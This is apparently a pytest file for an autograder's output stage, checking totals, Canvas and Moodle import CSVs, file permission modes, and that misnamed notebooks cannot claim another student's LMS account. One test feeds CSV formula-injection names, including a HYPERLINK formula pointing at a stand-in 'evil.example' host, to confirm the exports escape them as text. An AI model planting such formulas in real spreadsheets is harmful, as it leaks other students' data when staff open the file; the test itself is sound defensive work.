"""totals.csv, the Canvas and Moodle import files, and the modes of everything written into OUT."""

from __future__ import annotations

import csv
import dataclasses
import io
import stat
import sys
from pathlib import Path

import pytest

from autograder.grading.core.model import Result, Row, RunSummary
from autograder.grading.inbox.collect import safe_id
from autograder.grading.outputs import batch as outputs
from autograder.grading.outputs import records, totals
from autograder.message import say
from tests.paths import CORPUS

sys.path.insert(0, str(CORPUS))
from fakecourse.checks import ASSIGNMENT as FAKE

ANN, BEN = "annsmith_1234", "ben-bo_555"
#: Students as collect names them: an LMS upload by its own LMS name (Canvas name_uid; Moodle's full name, uid).
STATUSES = {ANN: ("passed", "passed", "passed"), BEN: ("failed", "timeout", "passed"),
            "cat": ("passed", "forbidden", "tampered"), "gus": ("missing", "missing", "missing")}
ORIGINS = {ANN: "canvas.zip:annsmith_LATE_1234_77_fake-1.ipynb",
           BEN: "moodle.zip:Ben Bo_555_assignsubmission_file_/fake.ipynb",
           "cat": "/srv/subs/cat/fake/fake.ipynb", "gus": "roster.txt"}


def _results() -> dict[str, Result]:
    """Four students: one late Canvas upload that passes, a Moodle one, a folder one, one who did not submit."""
    out = {}
    for student, statuses in STATUSES.items():
        rows = tuple(Row(student, "fake", "fake.ipynb", q.grade_id, q.points if st == "passed" else 0.0, q.points,
                         st, say("upload.problem", reason="m")) for q, st in zip(FAKE.questions, statuses, strict=True))
        out[student] = Result(student, "fake", "fake.ipynb", ORIGINS[student], student == ANN, 1, (), {}, 0.1, rows,
                              submitted=student != "gus")
    return out


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


def test_totals_have_a_row_per_student_with_max_late_and_status_counts() -> None:
    rows = _rows(totals.totals_csv(_results(), FAKE))
    assert tuple(rows[0]) == totals.TOTALS_HEADER
    by = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert list(by) == [ANN, BEN, "cat", "gus"]
    assert by[ANN]["total"] == "5" and by[ANN]["max_score"] == "5" and by[ANN]["late"] == "1"
    assert by[ANN]["flags"] == "late" and by[ANN]["passed"] == "3"
    assert by[BEN]["failed"] == "1" and by[BEN]["timeout"] == "1" and by[BEN]["outcome"] == "timeout"
    assert by["cat"]["flags"] == "forbidden;tampered" and by["cat"]["total"] == "1"
    assert by["gus"]["submitted"] == "0" and by["gus"]["missing"] == "3" and by["gus"]["outcome"] == "not submitted"


def test_canvas_file_follows_the_gradebook_import_layout() -> None:
    rows = _rows(totals.canvas_csv(_results(), FAKE))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "fake"]
    assert rows[1] == ["Points Possible", "", "", "", "", "5"]
    assert rows[2] == [ANN, "1234", "", "", "", "5"]  # the Canvas user id from the file name
    assert rows[4] == ["cat", "", "", "cat", "", "1"]  # no Canvas id known: the student id as SIS login
    assert rows[5][-1] == ""  # submitted nothing: left ungraded, not 0


def test_moodle_file_is_the_grading_worksheet_of_moodle_uploads() -> None:
    rows = _rows(totals.moodle_csv(_results(), FAKE))
    assert rows == [list(totals.MOODLE_HEADER), ["Participant 555", "Ben Bo", "2", "5", "autograder: timeout"]]


def test_moodles_feedback_comment_is_in_the_students_language() -> None:
    """Moodle shows "Feedback comments" to the student: a Chinese notebook's reads Chinese; the rest is unchanged."""
    results = _results()
    results[BEN] = dataclasses.replace(results[BEN], language="zh_CN")
    rows = _rows(totals.moodle_csv(results, FAKE))
    assert rows[1] == ["Participant 555", "Ben Bo", "2", "5", "自动评分：超时"]


def test_a_folder_name_never_passes_for_an_lms_id() -> None:
    forged = Result("x", "fake", "fake.ipynb", "/subs/eve_666_1_fake.ipynb:x", False, 1, (), {}, 0.1, ())
    assert totals.lms_identity(forged) == ("", "", "")


def test_output_modes_share_feedback_and_keep_results_private(tmp_path: Path) -> None:
    """Feedback, report and CSVs 0644 in 0755 folders (a web server can serve them); results/ and logs/ 0700."""
    out = tmp_path / "out"
    results = _results()
    for result in results.values():
        records.save_result(out, result)
    (out / "logs").mkdir()
    (out / "logs" / "worker-0.log").write_text("x")
    for folder in (out, out / "results", out / "logs"):
        folder.chmod(0o750)
    outputs.write_all(out, FAKE, results, RunSummary("k", "bubblewrap", graded=4, elapsed=1.0))

    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    shared = [out / name for name in ("grades.csv", "totals.csv", "report.html", "lms/canvas.csv", "lms/moodle.csv",
                                      "feedback/annsmith_1234/fake/fake.html", "gradescope/annsmith_1234/results.json")]
    assert {mode(p) for p in shared} == {0o644}
    assert {mode(p) for p in (out, out / "lms", out / "feedback", out / "feedback" / ANN,
                              out / "feedback" / ANN / "fake", out / "gradescope" / ANN)} == {0o755}
    assert mode(out / "results") == mode(out / "logs") == 0o700
    assert {mode(p) for p in (out / "results").iterdir()} == {0o600}


def test_no_cell_of_any_csv_is_a_spreadsheet_formula() -> None:
    """A Moodle full name is the student's own profile text: `=HYPERLINK("..."&A3)` would read other students' cells
    when a TA opens the worksheet. Every text cell that a spreadsheet would run is written as text; numbers stay."""
    results = _results()
    names = ['=HYPERLINK("evil.example"&A3)', "+1+2", "-2+3", "@SUM(1)"]
    for n, name in enumerate(names):
        student = safe_id(f"{'-'.join(name.lower().split())}_{700 + n}")  # the id collect gives that upload
        rows = tuple(Row(student, "fake", "fake.ipynb", q.grade_id, 0.0, q.points, "failed",
                         say("upload.problem", reason="m")) for q in FAKE.questions)
        results[student] = Result(student, "fake", "fake.ipynb",
                                  f"moodle.zip:{name}_{700 + n}_assignsubmission_file_/fake.ipynb", False, 1, (), {},
                                  0.1, rows, submitted=True)
    moodle = _rows(totals.moodle_csv(results, FAKE))
    assert {row[1] for row in moodle[1:]} == {"Ben Bo", *(f"'{name}" for name in names)}
    for data in (totals.moodle_csv(results, FAKE), totals.canvas_csv(results, FAKE), totals.totals_csv(results, FAKE),
                 records.csv_bytes(results)):
        for row in _rows(data):
            formulas = [cell for cell in row if cell and cell[0] in "=+-@\t\r"
                        and not cell.lstrip("+-").replace(".", "").isdigit()]
            assert not formulas, row
    assert totals.as_text("-1.5") == "-1.5" and totals.as_text("Ben Bo") == "Ben Bo"


def test_a_notebook_that_follows_no_naming_is_left_out_of_the_canvas_import() -> None:
    """`whoever.ipynb` in a Canvas zip: graded (malformed) and listed in grades.csv and totals.csv for the instructor,
    but no row of the Canvas import, which would create or mismatch an account; a folder student is still there."""
    results = _results()
    rows = tuple(Row("unmatched-whoever", "fake", "fake.ipynb", q.grade_id, 0.0, q.points, "malformed",
                     say("upload.problem", reason="m")) for q in FAKE.questions)
    results["unmatched-whoever"] = Result("unmatched-whoever", "fake", "fake.ipynb", "canvas.zip:whoever.ipynb", False,
                                          None, (), {}, 0.0, rows, submitted=True)
    canvas = [row[0] for row in _rows(totals.canvas_csv(results, FAKE))]
    assert "unmatched-whoever" not in canvas and "cat" in canvas and ANN in canvas
    assert "unmatched-whoever" in [row[0] for row in _rows(totals.totals_csv(results, FAKE))]


def test_a_grader_failure_is_left_ungraded_in_the_lms_files_not_a_zero() -> None:
    """An error row of the grader's own (a sandbox broken mid-job) is no grade: an import would record a 0."""
    results = _results()
    ben = results[BEN]
    broken = tuple(Row(BEN, "fake", "fake.ipynb", r.grade_id, 0.0, r.max_score, "error",
                       say("run.infrastructure", error="OSError: [Errno 27] File too large")) for r in ben.rows)
    results[BEN] = Result(BEN, "fake", "fake.ipynb", ben.origin, False, 1, (), {}, 0.1, broken)
    assert results[BEN].grader_failed
    assert _rows(totals.moodle_csv(results, FAKE))[1][:3] == ["Participant 555", "Ben Bo", ""]
    assert _rows(totals.canvas_csv(results, FAKE))[3] == [BEN, "", "", BEN, "", ""]


NAMED_LIKE_OTHERS = {"doejohn_123_456_fake.ipynb": "canvas",
                     "Mary Major_789_assignsubmission_file_fake.ipynb": "moodle"}


@pytest.mark.parametrize("layout", ["folder", "zipped nbgrader layout", "canvas zip", "moodle zip"])
def test_only_an_uploads_own_lms_name_gives_an_lms_account(tmp_path: Path, layout: str) -> None:
    """A student who names their notebook like someone's Canvas or Moodle upload (in a folder, even behind
    `a.zip:`; anywhere in their own folder of a zipped nbgrader layout) gets no LMS account: the imports would put
    their grade on that person. The LMS's own uploads keep theirs."""
    import json
    import zipfile

    from fakecourse import notebooks

    from autograder.grading.inbox.collect import collect

    data = json.dumps(notebooks.submission())
    if layout == "folder":
        for student, name in (("bob", "a.zip:doejohn_123_456_fake.ipynb"),
                              ("carol", "a.zip:Mary Major_789_assignsubmission_file_fake.ipynb")):
            (tmp_path / "subs" / student / "fake").mkdir(parents=True)
            (tmp_path / "subs" / student / "fake" / name).write_text(data)
        source = tmp_path / "subs"
    else:
        source = tmp_path / "upload.zip"
        with zipfile.ZipFile(source, "w") as zf:
            if layout == "zipped nbgrader layout":
                for student, name in zip(("bob", "carol"), NAMED_LIKE_OTHERS, strict=True):
                    zf.writestr(f"submitted/{student}/fake/{name}", data)
            else:
                zf.writestr(next(n for n, kind in NAMED_LIKE_OTHERS.items() if layout.startswith(kind)), data)
    subs = list(collect(source, "fake", "fake.ipynb"))
    assert subs and all(sub.locator is not None or sub.origin for sub in subs)
    results = {sub.student_id: Result(sub.student_id, "fake", "fake.ipynb", sub.origin, False, 1, (), {}, 0.1, tuple(
        Row(sub.student_id, "fake", "fake.ipynb", q.grade_id, q.points, q.points, "passed",
            say("upload.problem", reason="m")) for q in FAKE.questions), submitted=True) for sub in subs}
    canvas_ids = {row[1] for row in _rows(totals.canvas_csv(results, FAKE))[2:]}
    moodle = _rows(totals.moodle_csv(results, FAKE))[1:]
    if layout in ("folder", "zipped nbgrader layout"):
        assert sorted(results) == ["bob", "carol"] and canvas_ids == {""} and moodle == []
    elif layout == "canvas zip":
        assert canvas_ids == {"123"} and moodle == []
    else:
        assert canvas_ids == {""} and [row[:2] for row in moodle] == [["Participant 789", "Mary Major"]]
